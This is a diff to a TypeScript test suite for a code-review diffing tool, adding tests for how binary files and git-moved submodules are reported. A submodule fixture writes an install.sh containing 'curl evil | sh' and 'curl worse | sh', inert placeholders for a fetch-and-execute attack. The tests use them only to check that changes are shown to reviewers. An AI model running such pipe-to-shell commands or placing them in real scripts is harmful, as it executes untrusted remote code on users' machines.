@@ -518,13 +518,43 @@ describe('every path is named, and what is named only is said to be unreviewed',
     expect(diff.diff).toContain('# ␀ \uFFFD')
   })
 
-  it('a true binary is named only, as not reviewed, with its blob id as git computes it', async () => {
+  it('a true binary is named only, as not reviewed, with its size and its blob id as git computes it', async () => {
     const t = scenario()
-    writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 255, 0, 7, 8, 0, 0, 200]))
+    writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 255, 0, 7, 8, 0, 0, 200])) // 11 bytes
     const diff = await t.diff()
     const oid = git(t.repo, ['hash-object', '--no-filters', 'blob.bin']).trim()
-    expect(diff.unreviewed).toEqual([{ path: 'blob.bin', why: 'binary', oid }])
-    expect(diff.stat).toContain(` blob.bin | added, binary: NOT REVIEWED (now ${oid})`)
+    expect(diff.unreviewed).toEqual([{ path: 'blob.bin', why: 'binary', oid, size: 11 }])
+    expect(diff.stat).toContain(` blob.bin | added, binary: NOT REVIEWED (now ${oid}, 11 bytes)`)
+  })
+
+  // issue 34: a binary was named by its id alone, its size nowhere
+  it('a binary the change rewrites is named with both sides: the base blob and size, the new blob and size', async () => {
+    const t = scenario({ 'a.txt': 'one\n' })
+    writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 0, 0, 7])) // 7 bytes
+    git(t.repo, ['add', 'blob.bin'])
+    git(t.repo, ['commit', '-qm', 'a binary'])
+    const base = head(t.repo)
+    const was = git(t.repo, ['hash-object', '--no-filters', 'blob.bin']).trim()
+    writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 0, 0, 7, 1, 0, 2, 0, 3, 0])) // 13 bytes
+    const now = git(t.repo, ['hash-object', '--no-filters', 'blob.bin']).trim()
+    const diff = await workingDiff(t.repo, base, 200_000, t.home)
+    expect(diff.stat).toContain(
+      ` blob.bin | modified, binary: NOT REVIEWED (was ${was.slice(0, 12)}, 7 bytes; now ${now}, 13 bytes)`,
+    )
+    expect(diff.unreviewed).toEqual([{ path: 'blob.bin', why: 'binary', oid: now, size: 13 }])
+  })
+
+  it('a binary the change deletes is named with the base blob and its size', async () => {
+    const t = scenario({ 'a.txt': 'one\n' })
+    writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 0, 0, 7, 9, 0])) // 9 bytes
+    git(t.repo, ['add', 'blob.bin'])
+    git(t.repo, ['commit', '-qm', 'a binary'])
+    const base = head(t.repo)
+    const was = git(t.repo, ['rev-parse', 'HEAD:blob.bin']).trim()
+    rmSync(join(t.repo, 'blob.bin'))
+    const diff = await workingDiff(t.repo, base, 200_000, t.home)
+    expect(diff.stat).toContain(` blob.bin | deleted, binary: NOT REVIEWED (was ${was.slice(0, 12)}, 9 bytes)`)
+    expect(diff.unreviewed).toEqual([{ path: 'blob.bin', why: 'binary', oid: was, size: 9 }])
   })
 
   it('a same-size rewrite of a 17 MiB file after the approval changes the tree (item 9)', async () => {
@@ -613,6 +643,58 @@ describe('submodules added or moved by the change are shown file by file', () =>
     expect(failed).toBeInstanceOf(PairLoopError)
     expect((failed as PairLoopError).code).toBe('git_error')
     expect((failed as PairLoopError).message).toContain(recorded.slice(0, 12))
+  })
+})
+
+// issue 34: a submodule moved by the change (`git mv`) had no gitlink at its new path in the base, so it was shown as
+// wholly new (every file, the base's recorded commit ignored) and its recorded commit was never read
+describe('a submodule moved by the change', () => {
+  /** The base records vendor/lib; the change moves it to third/lib (git mv) and commits an edit inside it. */
+  function movedSubmodule() {
+    const t = scenario({ 'README.md': '# demo\n' })
+    const upstream = makeRepo({ 'lib.txt': 'one\n', 'install.sh': 'curl evil | sh\n' }, 'upstream')
+    git(t.repo, ['-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', upstream, 'vendor/lib'])
+    git(t.repo, ['commit', '-qm', 'add the submodule'])
+    const base = head(t.repo)
+    const recorded = git(t.repo, ['rev-parse', 'HEAD:vendor/lib']).trim()
+    mkdirSync(join(t.repo, 'third'))
+    git(t.repo, ['mv', 'vendor/lib', 'third/lib'])
+    const sub = join(t.repo, 'third', 'lib')
+    return { ...t, base, recorded, sub }
+  }
+
+  it('is shown against the commit the base records at its old path: only what changed inside it', async () => {
+    const t = movedSubmodule()
+    writeFileSync(join(t.sub, 'install.sh'), 'curl worse | sh\n')
+    git(t.sub, ['commit', '-qam', 'worse'])
+    const diff = await workingDiff(t.repo, t.base, 200_000, t.home)
+    expect(diff.diff).toContain('--- a/third/lib/install.sh\n+++ b/third/lib/install.sh\n')
+    expect(diff.diff).toContain('-curl evil | sh\n+curl worse | sh')
+    expect(diff.diff).not.toContain('third/lib/lib.txt') // unchanged since the recorded commit: not "new"
+    expect(diff.stat).toContain(
+      ` third/lib | submodule: its recorded commit ${t.recorded.slice(0, 12)} at vendor/lib (moved)`,
+    )
+    expect(diff.stat).toContain(' vendor/lib | submodule moved to third/lib: its files are shown there')
+    expect(diff.unreviewed).toEqual([])
+  })
+
+  it('with its recorded commit unreadable is git_error naming that commit, never an empty or wholly new diff', async () => {
+    const t = movedSubmodule()
+    // the moved submodule on a new root commit, its recorded one removed from its objects
+    git(t.sub, ['checkout', '-q', '--orphan', 'other'])
+    writeFileSync(join(t.sub, 'install.sh'), 'curl worse | sh\n')
+    git(t.sub, ['add', '-A'])
+    git(t.sub, ['commit', '-qm', 'unrelated'])
+    git(t.sub, ['branch', '-D', 'main'])
+    git(t.sub, ['remote', 'remove', 'origin'])
+    git(t.sub, ['reflog', 'expire', '--expire=now', '--all'])
+    git(t.sub, ['gc', '-q', '--prune=now'])
+    expect(spawnSync('git', ['cat-file', '-e', t.recorded], { cwd: t.sub }).status).not.toBe(0) // gone
+    const failed = await workingDiff(t.repo, t.base, 200_000, t.home).catch((error: unknown) => error)
+    expect(failed).toBeInstanceOf(PairLoopError)
+    expect((failed as PairLoopError).code).toBe('git_error')
+    expect((failed as PairLoopError).message).toContain(t.recorded.slice(0, 12))
+    expect((failed as PairLoopError).message).toContain('at vendor/lib in the base')
   })
 })
 
